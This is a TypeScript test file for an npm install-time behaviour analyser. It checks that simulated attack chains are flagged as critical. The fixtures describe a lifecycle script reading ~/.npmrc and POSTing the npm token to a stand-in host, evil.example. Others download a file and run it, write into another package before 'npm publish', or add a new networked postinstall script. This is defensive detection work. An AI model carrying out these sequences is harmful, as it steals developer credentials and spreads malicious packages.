import { describe, expect, test } from "bun:test";
import type { ReleaseMeta } from "../../../protocol/models.ts";
import { analyse } from "./analysing.ts";
import { HOME, installStory, NPM_TOKEN, PACKAGE, PROJECT, REGISTRY, type Story } from "./story.ts";

const EVIL = { address: "203.0.113.9", port: 443 };

/** `chain step severity category value`, in the order of the steps; what stands alone is left out. */
function chains(story: Story, release: ReleaseMeta | null = null): string[] {
  return analyse(story, { release })
    .deviations.filter(({ chain }) => chain !== null)
    .toSorted((a, b) => (a.chain ?? "").localeCompare(b.chain ?? "") || (a.step ?? 0) - (b.step ?? 0))
    .map(({ chain, step, severity, category, value }) => `${chain} ${step} ${severity} ${category} ${value}`);
}

describe("a credential that is read and a contact", () => {
  test("of the same script are one critical finding, with its steps in order", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.open(script, `${HOME}/.npmrc`);
    story.resolve(script, "evil.example", EVIL.address);
    story.socket(script, "connect", EVIL);
    story.send(script, EVIL, `POST / HTTP/1.1\r\nHost: evil.example\r\n\r\n${NPM_TOKEN}`);
    expect(chains(story)).toEqual([
      "credential-sent:script:left-pad 1 critical cred_new_access <HOME>/.npmrc",
      "credential-sent:script:left-pad 2 critical net_new_dns evil.example",
      "credential-sent:script:left-pad 3 critical net_new_destination evil.example:443",
      "credential-sent:script:left-pad 4 critical canary_leak npm token via http to evil.example:443",
      "credential-sent:script:left-pad 5 critical net_new_http_host evil.example",
    ]);
  });

  test("of two actors are none", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.open(script, `${HOME}/.npmrc`);
    story.socket(story.script("other"), "connect", EVIL);
    expect(chains(story)).toEqual([]);
  });

  test("are none where the control run shows one of them, too", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.open(script, `${HOME}/.npmrc`);
    story.socket(script, "connect", EVIL);
    const shown = { actor: "script:left-pad", category: "net_new_destination", value: "203.0.113.9:443" } as const;
    const { deviations } = analyse(story, { control: { version: "1.3.0", fingerprints: [shown] } });
    expect(deviations.filter(({ drift }) => drift)).toHaveLength(1);
    expect(deviations.filter(({ chain }) => chain !== null)).toEqual([]);
  });

  test("with the registry are one, too: a stolen token is used there", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.open(script, `${HOME}/.npmrc`);
    story.socket(script, "connect", REGISTRY);
    expect(chains(story)).toHaveLength(2);
  });
});

describe("a download that is run", () => {
  test("is one finding: contact, file, program", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.socket(script, "connect", EVIL);
    story.write(script, "/tmp/tool");
    story.change(script, "chmod", "/tmp/tool");
    story.exec(story.fork(script), ["/tmp/tool", "--now"], { binary: "/tmp/tool" });
    expect(chains(story)).toEqual([
      "download-run:script:left-pad 1 critical net_new_destination 203.0.113.9:443",
      "download-run:script:left-pad 2 critical fs_new_path_write /tmp/tool",
      "download-run:script:left-pad 3 critical proc_new_exec /tmp/tool",
      "download-run:script:left-pad 4 critical proc_new_command /tmp/tool --now",
    ]);
  });

  test("is found where an interpreter runs it, too", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.socket(script, "connect", EVIL);
    story.write(script, "/tmp/payload.js");
    story.exec(story.fork(script), ["node", "/tmp/payload.js"], { binary: "/usr/bin/node" });
    expect(chains(story).map((line) => line.split(" ").slice(3).join(" "))).toEqual([
      "net_new_destination 203.0.113.9:443",
      "fs_new_path_write /tmp/payload.js",
      "proc_new_command node /tmp/payload.js",
    ]);
  });

  test("needs the contact, and the very file", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.write(script, "/tmp/tool");
    story.exec(story.fork(script), ["/tmp/tool"], { binary: "/tmp/tool" });
    expect(chains(story)).toEqual([]);
    story.socket(story.script("other"), "connect", EVIL);
    expect(chains(story)).toEqual([]);
  });
});

describe("another package's files and a publish", () => {
  test("are one finding", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.write(script, `${PROJECT}/node_modules/victim/index.js`);
    story.exec(story.fork(script), ["npm", "publish", "--access", "public"], { binary: "/usr/bin/node" });
    expect(chains(story)).toEqual([
      "foreign-publish:script:left-pad 1 critical fs_new_foreign_write <DEP:victim>/index.js",
      "foreign-publish:script:left-pad 2 critical proc_new_command npm publish --access public",
    ]);
  });

  test("also where the registry is talked to without npm", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.write(script, `${PROJECT}/package.json`);
    story.socket(script, "connect", REGISTRY);
    expect(chains(story).map((line) => line.split(" ")[0])).toEqual([
      "foreign-publish:script:left-pad",
      "foreign-publish:script:left-pad",
    ]);
  });

  test("a word `publish` in other commands is none", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.write(script, `${PROJECT}/package.json`);
    story.exec(story.fork(script), ["npm", "run", "publish-docs"], { binary: "/usr/bin/node" });
    expect(chains(story)).toEqual([]);
  });
});

describe("a lifecycle script that the predecessor did not have", () => {
  const release = (was: string | null): ReleaseMeta => ({
    predecessor: "1.3.0",
    changes: [{ category: "meta_new_script", value: "postinstall: node 'a\\b'.js", was }],
    unknown: null,
  });
  const story = (dependency: string = PACKAGE): Story => {
    const told = installStory();
    told.socket(told.script(dependency), "connect", EVIL);
    return told;
  };

  test("and the network in its hands are one finding", () => {
    expect(chains(story(), release(null))).toEqual([
      `script-network:script:${PACKAGE} 1 critical meta_new_script postinstall: node 'a\\x5cb'.js`,
      `script-network:script:${PACKAGE} 2 critical net_new_destination 203.0.113.9:443`,
    ]);
  });

  test("that was only changed, or another package's script, is none", () => {
    expect(chains(story(), release("node b.js"))).toEqual([]);
    expect(chains(story("other"), release(null))).toEqual([]);
  });

  test("that also reads a credential is one finding, not two", () => {
    const told = story();
    told.open(told.script(PACKAGE), `${HOME}/.npmrc`);
    const found = chains(told, release(null));
    expect(found).toHaveLength(3);
    expect(new Set(found.map((line) => line.split(" ")[0]))).toEqual(
      new Set([`credential-sent+script-network:script:${PACKAGE}`]),
    );
  });
});
